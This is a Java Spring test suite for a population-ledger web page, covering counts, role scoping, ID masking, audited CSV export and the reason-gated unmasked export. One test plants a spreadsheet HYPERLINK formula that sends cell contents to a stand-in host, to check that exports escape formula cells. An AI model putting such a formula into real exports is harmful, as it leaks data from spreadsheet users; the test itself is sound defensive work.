package org.olive.app.population;

import static org.assertj.core.api.Assertions.assertThat;
import static org.olive.app.population.LedgerTestData.*;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.csrf;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.post;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;

import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.util.List;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.olive.app.OliveWebTest;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.mock.web.MockHttpServletResponse;
import org.springframework.mock.web.MockHttpSession;
import org.springframework.test.web.servlet.MockMvc;

/** 人口一本账 on the fixture ledger: counts, areas, pyramid, members, exits, CSV, scoping, bad filters, audit. */
@OliveWebTest
class PopulationWebTest {

    @Autowired
    MockMvc mvc;

    @Autowired
    JdbcClient jdbc;

    LedgerWebSupport web;

    @BeforeEach
    void seed() {
        web = new LedgerWebSupport(mvc, jdbc);
    }

    @Test
    void residentListOfMarchWithCountsChartsAndMembers() throws Exception {
        long before = web.audits("VIEW_PERSONAL_DATA", "POPULATION_LIST", P2 + " resident");
        String html = web.page(get("/population").param("period", P2).param("list", "resident")
                .session(web.login("analyst")));
        assertThat(html).contains("<h1>人口一本账</h1>", "id=\"counts-table\"", "data-chart=\"area-bar\"",
                "data-chart=\"pyramid\"", "/js/ledgers.js", "/webjars/echarts/", "常住人口（按乡镇）",
                "id=\"nav-population\" aria-current=\"page\"");
        // March: registered 张伟 李娜 张小明 王强 陈刚 孙丽 = 6; resident 张伟 李娜 张小明 王强 赵敏 孙丽 = 6; floating 1;
        // separated 1
        assertThat(html).contains("data-list=\"registered\">6<", "data-list=\"resident\">6<",
                "data-list=\"floating\">1<", "data-list=\"separated\">1<");
        assertThat(html).contains("<td>菜园镇</td>", "<td>嵊山镇</td>", "张伟", "赵敏", "共 6 人");
        // by village too: 东海社区 张伟 李娜 张小明, 沙河社区 赵敏, 壁下村 王强 孙丽
        assertThat(html).contains("id=\"village-table\"", "<td>东海社区居委会</td>", "<td>沙河社区居委会</td>");
        assertThat(html).doesNotContain("陈刚"); // separated, not resident
        // the pyramid's broad groups: 12 → 0-14, 29 34 42 45 → 15-59
        assertThat(html).contains("<td>0-14</td>", "<td>15-59</td>");
        assertThat(html).contains(org.olive.identity.IdNumber.mask(ID_ZHANG_WEI));
        assertThat(LedgerWebSupport.FULL_ID.matcher(html).find()).as("no unmasked ID").isFalse();
        assertThat(web.audits("VIEW_PERSONAL_DATA", "POPULATION_LIST", P2 + " resident")).isEqualTo(before + 1);
    }

    @Test
    void latestSucceededPeriodByDefaultAndExitsOfTheMonth() throws Exception {
        String html = web.page(get("/population").param("list", "registered").session(web.login("analyst")));
        assertThat(html).contains("<option value=\"2025-03\" selected=\"selected\">2025-03</option>")
                .doesNotContain("2025-04"); // a failed ledger run
        // 张奶奶 was registered in February, not in March
        assertThat(html).contains("id=\"exits-table\"", "张奶奶", "2025-02 在册、2025-03 不再在册：1 人");
    }

    @Test
    void filtersByVillageSexAndAge() throws Exception {
        MockHttpSession s = web.login("analyst");
        String html = web.page(get("/population").param("period", P2).param("list", "registered")
                .param("township", CAIYUAN).param("village", V_DONGHAI).param("sex", "M").param("age", "15-59")
                .session(s));
        // men 15-59 registered in 东海社区: 张伟 (45), 陈刚 (54); not 张小明 (12)
        assertThat(html).contains("张伟", "陈刚", "共 2 人", "户籍人口（按村、社区）").doesNotContain("张小明");
    }

    @Test
    void badFiltersAreNamedAndIgnored() throws Exception {
        String html = mvc.perform(get("/population").param("list", "tourists").param("age", "old")
                        .param("period", "1999-01").session(web.login("analyst")))
                .andExpect(status().isBadRequest()).andReturn().getResponse().getContentAsString(StandardCharsets.UTF_8);
        assertThat(html).contains("list &#39;tourists&#39;: expected registered, resident, floating or separated",
                "age &#39;old&#39; is not a range", "period &#39;1999-01&#39;: no successful ledger run");
    }

    @Test
    void cadreSeesOnlyTheirTownshipAndIsRefusedAnother() throws Exception {
        MockHttpSession s = web.login("cadre");
        String html = web.page(get("/population").param("period", P2).param("list", "resident").session(s));
        assertThat(html).contains("张伟", "赵敏", "共 4 人").doesNotContain("王强", "<td>嵊山镇</td>");
        mvc.perform(get("/population").param("township", SHENGSHAN).session(s)).andExpect(status().isForbidden());
        mvc.perform(get("/population").param("village", V_BIXIA).session(s)).andExpect(status().isForbidden());
        mvc.perform(get("/population/members.csv").param("township", SHENGSHAN).session(s))
                .andExpect(status().isForbidden());
    }

    @Test
    void csvExportIsCompleteAndAudited() throws Exception {
        long before = web.audits("EXPORT_PERSONAL_DATA", "POPULATION_LIST", null);
        MockHttpServletResponse r = mvc.perform(get("/population/members.csv").param("period", P2)
                        .param("list", "registered").session(web.login("analyst")))
                .andExpect(status().isOk()).andReturn().getResponse();
        assertThat(r.getContentType()).contains("text/csv");
        assertThat(r.getHeader("Content-Disposition")).contains("population-registered-2025-03.csv");
        String body = r.getContentAsString(StandardCharsets.UTF_8);
        List<CSVRecord> rows = CSVFormat.DEFAULT.parse(new StringReader(body.substring(1))).getRecords();
        assertThat(rows.get(0).toList()).containsExactly("登记号", "公民身份号码", "姓名", "性别", "年龄", "村（社区）",
                "村（社区）代码", "列入期间");
        assertThat(rows).hasSize(7);
        // issue 11, item 8: a plain GET is masked for every role, even one that may unmask
        assertThat(body).doesNotContain(ID_ZHANG_WEI).contains(org.olive.identity.IdNumber.mask(ID_ZHANG_WEI),
                "东海社区居委会", V_DONGHAI);
        assertThat(web.audits("EXPORT_PERSONAL_DATA", "POPULATION_LIST", null)).isEqualTo(before + 1);
        assertThat(web.lastDetail("POPULATION_LIST")).contains("masked");

        String cadre = mvc.perform(get("/population/members.csv").param("period", P2).param("list", "registered")
                        .session(web.login("cadre")))
                .andExpect(status().isOk()).andReturn().getResponse().getContentAsString(StandardCharsets.UTF_8);
        assertThat(cadre).doesNotContain(ID_ZHANG_WEI, "王强").contains(org.olive.identity.IdNumber.mask(ID_ZHANG_WEI));
    }

    /** Issue 11, item 8: an unmasked export is an explicit POST with a reason, audited with it, for ADMIN and ANALYST. */
    @Test
    void unmaskedExportNeedsAPostAReasonAndARole() throws Exception {
        var analyst = web.login("analyst");
        mvc.perform(post("/population/members.csv").with(csrf()).param("period", P2).param("list", "registered")
                .session(analyst)).andExpect(status().isBadRequest());
        mvc.perform(post("/population/members.csv").with(csrf()).param("period", P2).param("list", "registered")
                .param("reason", " 短 ").session(analyst)).andExpect(status().isBadRequest());
        mvc.perform(post("/population/members.csv").param("period", P2).param("list", "registered")
                .param("reason", "核对低保名单").session(analyst)).andExpect(status().isForbidden());
        long before = web.audits("EXPORT_PERSONAL_DATA", "POPULATION_LIST", null);
        String body = mvc.perform(post("/population/members.csv").with(csrf()).param("period", P2)
                        .param("list", "registered").param("reason", "核对低保名单").session(analyst))
                .andExpect(status().isOk()).andReturn().getResponse().getContentAsString(StandardCharsets.UTF_8);
        assertThat(body).contains(ID_ZHANG_WEI);
        assertThat(web.audits("EXPORT_PERSONAL_DATA", "POPULATION_LIST", null)).isEqualTo(before + 1);
        assertThat(web.lastDetail("POPULATION_LIST")).contains("UNMASKED", "核对低保名单");
        for (String user : new String[] {"cadre", "policy"}) {
            mvc.perform(post("/population/members.csv").with(csrf()).param("period", P2).param("list", "registered")
                    .param("reason", "核对低保名单").session(web.login(user))).andExpect(status().isForbidden());
        }
        assertThat(web.page(get("/population").param("period", P2).session(analyst)))
                .contains("unmasked-export", "name=\"reason\"");
        assertThat(web.page(get("/population").param("period", P2).session(web.login("cadre"))))
                .doesNotContain("unmasked-export");
    }

    /** Issue 11, item 7: a name that a spreadsheet would evaluate comes out escaped. */
    @Test
    void csvExportEscapesFormulaCells() throws Exception {
        String name = jdbc.sql("SELECT name FROM person WHERE id_number = :id").param("id", ID_ZHANG_WEI)
                .query(String.class).single();
        String formula = "=HYPERLINK(\"http://x.example/?\"&A1,\"点击\")";
        jdbc.sql("UPDATE person SET name = :n WHERE id_number = :id").param("n", formula).param("id", ID_ZHANG_WEI).update();
        try {
            String body = mvc.perform(get("/population/members.csv").param("period", P2).param("list", "registered")
                            .session(web.login("analyst")))
                    .andExpect(status().isOk()).andReturn().getResponse().getContentAsString(StandardCharsets.UTF_8);
            List<CSVRecord> rows = CSVFormat.DEFAULT.parse(new StringReader(body.substring(1))).getRecords();
            assertThat(rows.stream().map(r -> r.get(2))).contains("'" + formula)
                    .noneMatch(cell -> cell.startsWith("="));
        } finally {
            jdbc.sql("UPDATE person SET name = :n WHERE id_number = :id").param("n", name).param("id", ID_ZHANG_WEI)
                    .update();
        }
    }

    @Test
    void englishLabels() throws Exception {
        assertThat(web.page(get("/population").param("period", P2).param("lang", "en").session(web.login("analyst"))))
                .contains("<h1>Population ledger</h1>", "Age and sex pyramid", "Resident by township");
    }
}
